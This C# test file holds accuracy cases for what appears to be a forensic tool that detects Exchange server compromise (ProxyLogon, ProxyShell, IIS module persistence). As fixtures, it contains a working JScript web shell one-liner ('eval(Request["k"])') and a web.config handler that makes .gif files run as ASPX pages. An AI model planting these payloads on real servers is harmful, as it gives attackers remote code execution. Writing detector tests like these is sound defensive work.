using System.Text;
using Breakwater.Accuracy.Tests.Evidence;
using static Breakwater.Accuracy.Tests.AccuracyCase;
using static Breakwater.Accuracy.Tests.Cases.Servers;
using static Breakwater.Model.ExposureState;
using static Breakwater.Model.VerdictState;

namespace Breakwater.Accuracy.Tests.Cases;

/// <summary>Evidence without a single log, and what files add to logs.</summary>
internal static class FileCases
{
    private const string OwaAuth = @"D:\EX\FrontEnd\HttpProxy\owa\auth\";

    private const string OwaConfig = @"C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa\web.config";
    private const string OwaBin = @"C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa\bin\";
    private const string Module = "<configuration><system.webServer><modules><add name=\"Diag\" type=\"Diag.Hook, Diag\"/></modules></system.webServer></configuration>";

    private const string Picture = @"C:\inetpub\wwwroot\aspnet_client\img\logo.gif";
    private const string PictureConfig = @"C:\inetpub\wwwroot\aspnet_client\img\web.config";
    private const string PictureHandler = "<configuration><system.webServer><handlers><add name=\"g\" path=\"*.gif\" verb=\"*\" type=\"System.Web.UI.PageHandlerFactory\" /></handlers></system.webServer></configuration>";
    private const string Runs = "<%@ Page Language=\"JScript\"%><%eval(Request[\"k\"])%>";

    public static IEnumerable<AccuracyCase> All =>
    [
        Of("file-foreign-page", () => Bare().Page(OwaAuth + "OutlookEN.US.aspx"), Shapes.Kape, Vulnerable, Compromised, 14) with { States = [("unattributed", Compromised)] },
        Of("file-oab-shaped", () => Bare().With(b => b.OabExport(Intrusions.Tag, @"C:\inetpub\wwwroot\aspnet_client\supp0rt.aspx")), Shapes.Kape, Vulnerable, Compromised, 14) with { States = [("proxylogon", Compromised)] },
        Of("file-mailbox-export", () => Bare().With(b => b.File(@"C:\inetpub\wwwroot\aspnet_client\wtsq.aspx", [.. "!BDN"u8, 1, 2, 3, 4, .. "SM"u8, .. new byte[271360], .. "<%@ Page Language=\"JScript\"%><%eval(Request[\"k\"])%>"u8])), Shapes.Kape, Vulnerable, Compromised, 14)
            with { States = [("proxyshell", Compromised)] },
        Of("file-certificate-request", () => Bare().With(b => b.File(OwaAuth + "qz.aspx", [0x30, 0x82, 4, 0x5e, .. new byte[300], .. "<% Page Language %>"u8, .. new byte[300]])), Shapes.Kape, Vulnerable, Compromised, 14) with { States = [("proxyshell", Compromised)] },
        Of("file-shipped-names", Shipped, Shapes.Kape, Vulnerable, CannotExclude, 11) with { NeverSays = ["intruder succeeded"] },
        Of("file-compiled-only", () => Bare().Compiled("/aspnet_client/system_web/zx.aspx"), Shapes.Kape, Vulnerable, Compromised, 14),
        Of("file-compiled-shipped", () => Bare().Compiled("/owa/auth/logon.aspx").Compiled("/ecp/default.aspx"), Shapes.Kape, Vulnerable, CannotExclude, 11),
        Of("export-with-script", () => Bare().OabExport(Intrusions.Tag), Shapes.Kape, Vulnerable, Compromised, 14) with { States = [("proxylogon", Compromised)] },
        Of("export-in-local-time", () => Bare().OabExport(Intrusions.Tag).File(Zone, InBerlin), Shapes.Kape, Vulnerable, Compromised, 14) with { Says = ["at 2021-03-03T04:12:46Z"] },
        Of("export-in-universal-time", () => Bare().OabExport(Intrusions.Tag).File(Zone, InUtc), Shapes.Kape, Vulnerable, Compromised, 14) with { Says = ["at 2021-03-03T05:12:46Z"] },
        Of("export-in-unknown-time", () => Bare().OabExport(Intrusions.Tag), Shapes.Kape, Vulnerable, Compromised, 14) with { NeverSays = [":12:46Z"] },
        Of("export-clean", () => Bare().OabExport("https://webmail.tailspin.test/OAB"), Shapes.Kape, Vulnerable, CannotExclude, 11),
        Of("config-hidden-directory", () => Bare().ApplicationHost(@"C:\inetpub\logs\LogFiles", "<virtualDirectory path=\"/aspnet_client/x\" physicalPath=\"C:\\ProgramData\\COM1\\\" />"), Shapes.Kape, Vulnerable, Compromised, 14)
            with { Says = ["hidden"] },
        Of("config-module-without-signature", () => March2021().With(b => b.File(OwaBin + "Diag.dll", [.. "MZ"u8, .. new byte[600]])).File(OwaConfig, Module), Shapes.Kape, Vulnerable, Suspected, 13) with { States = [("iis-modules", Suspected)], Must = ["iis-modules:persistence"] },
        Of("config-module-without-library", () => March2021().File(OwaConfig, Module), Shapes.Kape, Vulnerable, NotFound, 10) with { MustNot = ["iis-modules:persistence"], Says = ["needs an explanation"] },
        Of("config-runs-pictures", () => March2021().File(Picture, Runs).File(PictureConfig, PictureHandler), Shapes.Kape, Vulnerable, Compromised, 14) with { Must = ["unattributed:wroteFile"] },
        Of("config-runs-no-pictures", () => March2021().File(Picture, Runs).File(PictureConfig, PictureHandler.Replace("PageHandlerFactory", "StaticFileHandler", StringComparison.Ordinal)), Shapes.Kape, Vulnerable, NotFound, 10),
        Of("config-runs-pictures-elsewhere", () => March2021().File(Picture, Runs).File(@"C:\inetpub\wwwroot\shop\web.config", PictureHandler), Shapes.Kape, Vulnerable, Suspected, 13) with { MustNot = ["unattributed:wroteFile"] },
        Of("picture-takes-data", () => March2021().With(b => b.Use(Intrusion2021, "/aspnet_client/img/logo.gif")), Shapes.Kape, Vulnerable, Compromised, 14) with { Must = ["unattributed:shellUsed"] },
        Of("picture-asked-with-parameters", () => March2021().With(b => Ask(b, "GET", "/aspnet_client/img/logo.gif")), Shapes.Kape, Vulnerable, NotFound, 10),
        Of("config-runs-picture-asked-with-parameters", () => March2021().File(PictureConfig, PictureHandler).With(b => Ask(b, "GET", "/aspnet_client/img/logo.gif")), Shapes.Kape, Vulnerable, Suspected, 13) with { Says = ["logo.gif"] },
        Of("logon-picture-takes-data", () => March2021().With(b => Ask(b, "POST", "/owa/auth/logo.gif")), Shapes.Kape, Vulnerable, Targeted, 12),
        Of("config-runs-logon-picture-that-takes-data", () => March2021().With(b => { b.File(b.Install + @"\FrontEnd\HttpProxy\owa\auth\web.config", PictureHandler); Ask(b, "POST", "/owa/auth/logo.gif"); }), Shapes.Kape, Vulnerable, Compromised, 14)
            with { Must = ["unattributed:shellUsed"] },
        Of("config-plain", () => Bare().ApplicationHost(@"C:\inetpub\logs\LogFiles"), Shapes.Kape, Vulnerable, CannotExclude, 11),
        Of("shell-removed", () => March2021().Page(@"C:\inetpub\wwwroot\iisstart.htm", "<html>IIS</html>").With(b => b.Use(Intrusion2021, "/aspnet_client/gone.aspx")), Shapes.Kape, Vulnerable, Compromised, 14) with { Must = ["unattributed:shellUsed"] },
        Of("shell-behind-shipped-name", () => Bare().Page(OwaAuth + @"Current\themes\logon.aspx"), Shapes.Kape, Vulnerable, Compromised, 14),
        Of("mitigation-rule-present", () => March2021().With(b =>
        {
            b.ProxyLogon(Intrusion2021);
            b.File(b.Install + @"\FrontEnd\HttpProxy\autodiscover\web.config", "<configuration><system.webServer><rewrite><rules><rule name=\"EEMS M1.1 PowerShell - inbound\" stopProcessing=\"true\"><match url=\".*\" /><conditions><add input=\"{UrlDecode:{REQUEST_URI}}\" pattern=\"(?=.*autodiscover)(?=.*powershell)\" /></conditions><action type=\"AbortRequest\" /></rule></rules></rewrite></system.webServer></configuration>");
        }), Shapes.Kape, Vulnerable, Compromised, 14) with { States = [("proxynotshell", NotFound)] },
    ];

    private const string Zone = @"C:\temp\ir\zone.reg";
    private const string InUtc = "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Control\\TimeZoneInformation]\r\n\"Bias\"=dword:00000000\r\n\"TimeZoneKeyName\"=\"UTC\"\r\n\r\n";
    private static readonly string InBerlin = InUtc.Replace("dword:00000000", "dword:ffffffc4", StringComparison.Ordinal).Replace("UTC", "W. Europe Standard Time", StringComparison.Ordinal);

    private static void Ask(Box box, string method, string name) => box.FrontEnd(new Request(Intrusion2021, method, name) { Query = "k=1", Client = "192.0.2.77", Agent = "Mozilla/5.0 (Windows NT 6.1; WOW64)" });

    private static Box Bare()
    {
        var box = new Box { Install = @"D:\EX" };
        return box.GetExchangeServer("Version 15.1 (Build 2176.2)");
    }

    /// <summary>Files of a build that no published list of hashes covers.</summary>
    private static Box Shipped()
    {
        var box = new Box { Install = @"D:\EX" }.ExSetup("15.2.1118.12");
        foreach (var name in new[] { "errorFE", "ExpiredPassword", "frowny", "logoff", "logon", "OutlookCN", "RedirSuiteServiceProxy", "signout" })
        {
            box.Page($"{OwaAuth}{name}.aspx", "<%@ Page language=\"c#\" AutoEventWireup=\"false\" Inherits=\"Microsoft.Exchange.HttpProxy." + name + "\" %>\r\n<%@ Import namespace=\"Microsoft.Exchange.Clients\" %>\r\n<html><body><%= this.UserName %></body></html>\r\n");
        }

        box.Page(@"D:\EX\FrontEnd\HttpProxy\ecp\auth\TimeoutLogout.aspx", "<%@ Page Language=\"c#\" Inherits=\"Microsoft.Exchange.HttpProxy.TimeoutLogout\" %>");
        box.File(@"D:\EX\ClientAccess\OAB\Temp\LZXc2f3lst0.1js", Encoding.ASCII.GetBytes("LZX"));
        return box;
    }
}
